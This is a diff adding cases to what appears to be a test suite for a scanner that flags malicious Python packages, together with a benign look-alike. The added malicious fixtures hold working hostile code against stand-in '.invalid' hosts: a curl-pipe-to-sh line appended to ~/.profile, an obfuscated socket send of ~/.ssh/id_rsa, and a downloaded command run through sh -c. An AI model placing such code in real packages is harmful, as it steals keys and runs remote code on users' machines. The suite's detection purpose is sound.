@@ -117,6 +117,24 @@ CASES = [
                      "    os.chmod(hook, 0o755)\n"
                      "setup(name='githook', version='1.0')\n"),
     }, "malicious", ("PV401",)),
+    Case("import-time code appends a download-and-run line to ~/.profile", "profilerc", _init(
+        "profilerc",
+        "import os\n\n"
+        "with open(os.path.join(os.path.expanduser('~'), '.profile'), 'a') as fh:\n"
+        "    fh.write('curl -s https://p.x.invalid/s | sh\\n')\n"),
+        "malicious", ("PV401",), kind="wheel"),
+    Case("socket send fetched from a list by a getattr-built name", "listsend", _init(
+        "listsend",
+        "import os, socket\n\n"
+        "_ops = [getattr(socket.socket, 'send' + 'all')]\n"
+        "_s = socket.create_connection(('k.x.invalid', 443))\n"
+        "_ops[0](_s, open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"),
+        "malicious", ("PV211",), kind="wheel"),
+    Case("argv list built in a name, downloaded command appended after sh -c", "argvsh", _init(
+        "argvsh",
+        "import subprocess, urllib.request\n\n_cmd = ['sh', '-c']\n"
+        "_cmd.append(urllib.request.urlopen('https://c.x.invalid/n').read().decode())\n"
+        "subprocess.run(_cmd)\n"), "malicious", ("PV325",), kind="wheel"),
     # benign look-alikes
     Case("mail helper that sends what the user passes", "mailhelp", _init(
         "mailhelp", "import smtplib\nfrom email.message import EmailMessage\n\n\n"
@@ -168,4 +186,11 @@ CASES = [
         "    http.server.HTTPServer(('127.0.0.1', port), "
         "http.server.SimpleHTTPRequestHandler).serve_forever()\n"),
         "benign", kind="wheel"),
+    Case("git clone of a URL an index API returned, argv built in a name", "cloner", _init(
+        "cloner",
+        "import json, subprocess, urllib.request\n\n\ndef clone(project, dest):\n"
+        "    meta = json.load(urllib.request.urlopen("
+        "'https://index.example.org/api/' + project))\n"
+        "    cmd = ['git', 'clone', '--depth', '1']\n    cmd.append(meta['repo_url'])\n"
+        "    cmd.append(dest)\n    subprocess.run(cmd, check=True)\n"), "benign", kind="wheel"),
 ]
